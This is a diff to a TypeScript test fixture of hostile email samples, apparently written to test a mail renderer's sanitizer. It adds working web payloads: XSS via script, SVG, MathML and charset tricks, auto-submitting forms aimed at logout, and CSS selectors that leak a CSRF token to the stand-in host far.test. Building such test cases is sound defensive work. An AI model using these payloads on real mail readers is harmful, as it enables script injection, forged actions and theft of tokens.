@@ -1,11 +1,11 @@
-// Ten mails that attack whoever reads them: by what they run, load, submit, hide, and by where they put it. Ours, all of them.
+// Mails that attack whoever reads them: by what they run, load, submit, hide, and by where they put it. Ours, all of them.
 import type { Sample } from '../messages/sample.ts';
 
 const FAR = 'http://far.test/';
 /** What every attack calls, and loads. */
 const RUN = (what: string): string => `<img src=${FAR}${what}.png onerror=pwned()><script>pwned()</script>`;
 
-/** The mails, each with its name. Every one holds the word `hostile`, so that a search finds it. */
+/** Twenty mails, each with its name. Every one holds the word `hostile`, so that a search finds it. */
 export function hostileMails(): readonly Sample[] {
   return Object.entries(MAILS).map(([name, mail], index) => ({
     name,
@@ -109,5 +109,66 @@ const MAILS: Readonly<Record<string, string>> = {
     `Content-Type: text/html\nContent-ID: <page@x>\n\n${RUN('page')}`,
     `Content-Type: message/external-body; access-type=URL; URL="${FAR}external"\nContent-ID: <far@x>\n\nContent-Type: image/png\n\n`,
     `Content-Type: message/rfc822\n\nFrom: x@example.org\nSubject: ${RUN('inner')}\nContent-Type: text/html\n\n${RUN('nested')}`,
+  ]),
+  'CSS that asks by what stands in the page': html(
+    `<style>@import url(${FAR}import.css);@import "${FAR}late.css" layer(x) supports(display:block);` +
+      `input[name=csrf][value^=a]{background:url(${FAR}css-a)}a[href*=message]{background-image:url(${FAR}css-href)}` +
+      `:has(#q){background:url(${FAR}has)}p::before{content:url(${FAR}before)}body:hover{cursor:url(${FAR}cursor),auto}` +
+      `@font-face{font-family:probe;src:url(${FAR}font);unicode-range:U+68}p{font-family:probe}` +
+      `@container style(--x:1){p{background:url(${FAR}container)}}p{background:if(media(width>1px):url(${FAR}if);else:none)}` +
+      `p{background:attr(data-u type(<url>))}</style><p data-u="${FAR}attr">hostile <input name=csrf value=abc><a href="/message/1">x</a>`,
+  ),
+  'SVG, its uses and foreign objects': html(
+    `<p>hostile<svg xmlns="http://www.w3.org/2000/svg"><use href="${FAR}use.svg#x"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${FAR}used'/></svg>#x"/>` +
+      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${FAR}foreign"></iframe>${RUN('fo')}</body></foreignObject>` +
+      `<image href="${FAR}image"/><feImage href="${FAR}fe"/><a href="javascript:pwned()"><text>x</text></a><animate attributeName=href to="${FAR}animate" begin=0s onbegin=pwned() />` +
+      `<style>@import "${FAR}svg-import";rect{fill:url(${FAR}fill#x)}</style><rect width=9 height=9 /></svg><img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='${FAR}nested'/></svg>">`,
+  ),
+  'MathML that leads out': html(
+    `<p>hostile<math href="${FAR}math"><mtext href="javascript:pwned()">x</mtext><maction actiontype="statusline" xlink:href="${FAR}maction">x</maction>` +
+      `<annotation-xml encoding="text/html">${RUN('annotation')}</annotation-xml><mglyph src="${FAR}glyph"/><ms style="background:url(${FAR}ms)">x</ms>` +
+      `<semantics><annotation-xml encoding="application/xhtml+xml"><iframe srcdoc="<script>pwned()</script>"></iframe></annotation-xml></semantics></math>`,
+  ),
+  'what a browser fetches ahead': html(
+    `<head><meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//ahead.names.test><link rel=preconnect href=//ahead2.names.test crossorigin>` +
+      `<link rel="preload prefetch" as=image imagesrcset="${FAR}set 1x" href="${FAR}preload"><link rel=prerender href="${FAR}prerender"><link rel=modulepreload href="${FAR}module">` +
+      `<link rel=icon href="${FAR}icon"><link rel=expect blocking=render href=#x><script type=speculationrules>{"prerender":[{"urls":["${FAR}rules"]}]}</script>` +
+      `<meta http-equiv=Link content="<${FAR}link>;rel=preload;as=image"></head><p>hostile <a href="http://link.names.test/">x</a>`,
+  ),
+  'a refresh, a base, and who is on top': html(
+    `<base href="${FAR}" target="_top"><meta http-equiv="refresh" content="0; url=data:text/html,<script>pwned()</script>"><meta http-equiv=refresh content="1;${FAR}again">` +
+      `<script>window.name='pwned';top.location='${FAR}top'</script><p>hostile <a target=_top href=/logout autofocus>x</a><a target=_parent href="${FAR}parent">x</a>` +
+      `<a href="${FAR}ping-to" ping="${FAR}ping">x</a><iframe name=top src="${FAR}named"></iframe><map name=m><area href="javascript:pwned()" target=_self></map><img usemap=#m>`,
+  ),
+  'forms, focus and buttons that act by themselves': html(
+    `<p>hostile<form id=f action="/logout" method=post target=_top><input name=csrf value=x autofocus onfocus=pwned()><input type=submit formaction="${FAR}submit"></form>` +
+      `<form action="${FAR}get"><input name=q autofocus onfocus="this.form.submit()"><button type=submit autofocus>x</button></form><input type=image src="${FAR}input" form=f>` +
+      `<select autofocus onfocus=pwned()><option>x</select><textarea autofocus onfocus=pwned()></textarea><div contenteditable autofocus onfocus=pwned()>x</div>` +
+      `<button popovertarget=help>x</button><button commandfor=help command=show-popover>x</button><dialog open onclose=pwned()><form method=dialog><button autofocus>x</button></form></dialog>`,
+  ),
+  'pictures in many sets': html(
+    `<p>hostile<img srcset="${FAR}a 1x, ${FAR}b 2x" sizes=100vw><picture><source srcset="${FAR}c" media="(min-width:1px)"><source type=image/webp srcset="${FAR}d"><img src="${FAR}e" loading=lazy></picture>` +
+      `<img src="//far.test/f"><img src="\\\\far.test\\g"><img src="ht&#10;tp://far.test/h"><img lowsrc="${FAR}i" dynsrc="${FAR}j" longdesc="${FAR}k"><input type=image srcset="${FAR}l">` +
+      `<video><track default src="${FAR}m"><source src="${FAR}n"></video><body background="${FAR}o"><table background=" ${FAR}p"><img src="blob:${FAR}q"><img src="filesystem:${FAR}r">`,
+  ),
+  'parts that name each other': multipart('related', [
+    `Content-Type: text/html; charset=utf-8\n\n<p>hostile <img src="cid:svg@x"><img src="cid:%2e%2e/status"><img src="cid:none@x" onerror=pwned()><link rel=stylesheet href="cid:css@x"><iframe src="cid:html@x"></iframe>` +
+      `<img src="cid:far@x"><img src="CID:HTML@X"><object data="cid:svg@x"></object><style>@import "cid:css@x";p{background:url(cid:svg@x)}</style><a href="cid:html@x" target=_top>x</a>`,
+    `Content-Type: image/png\nContent-ID: <svg@x>\nContent-Location: ${FAR}location\n\n\x89PNG\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><image href="${FAR}png"/></svg>`,
+    `Content-Type: text/css\nContent-ID: <css@x>\n\n@import "${FAR}css";*{background:url(${FAR}part)}`,
+    `Content-Type: text/html\nContent-ID: <html@x>\nContent-Base: ${FAR}\n\n${RUN('cid')}`,
+    `Content-Type: message/external-body; access-type=URL; URL="${FAR}ext"\nContent-ID: <far@x>\n\nContent-Type: image/png\n\n`,
+  ]),
+  'addresses that are pages': html(
+    `<p>hostile <a href="data:text/html,<script>pwned()</script>" autofocus>x</a><iframe src="data:text/html,${encodeURIComponent(RUN('data'))}"></iframe>` +
+      `<a href="blob:null/0" target=_blank>x</a><object data="data:text/html;base64,${Buffer.from(RUN('object')).toString('base64')}"></object><embed src="data:image/svg+xml,<svg onload='pwned()' xmlns='http://www.w3.org/2000/svg'/>">` +
+      `<img src="data:text/html,<script>pwned()</script>"><img src="data:image/png,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>"><a href="view-source:${FAR}">x</a><a href="intent://far.test#Intent;scheme=http;end">x</a>`,
+  ),
+  'a charset that changes its mind, and shadows': multipart('alternative', [
+    `Content-Type: text/plain; charset=utf-7\n\nhostile +ADw-script+AD4-pwned()+ADw-/script+AD4-`,
+    `Content-Type: text/html; charset="utf-16be\n\n\xfe\xff\0<\0s\0c\0r\0i\0p\0t\0>\0p\0w\0n\0e\0d\0(\0)\0<\0/\0s\0c\0r\0i\0p\0t\0>`,
+    `Content-Type: text/html; charset=x-user-defined; charset=utf-7\n\n<meta charset=utf-7><meta http-equiv=content-type content="text/html;charset=hz-gb-2312">hostile +ADw-img src=${FAR}seven onerror=pwned()+AD4- ~{<script>pwned()</script>~}` +
+      `<div><template shadowrootmode=open shadowrootclonable><style>@import "${FAR}shadow";:host{background:url(${FAR}host)}</style>${RUN('shadow')}<slot></slot></template></div><template>${RUN('template')}</template>` +
+      `<x-y is=x-y onattributechanged=pwned()><slot name=x></slot></x-y>\x1b$B<img src=${FAR}jis>\x1b(B\x1b%/1\x8a<script>pwned()</script>`,
   ]),
 };
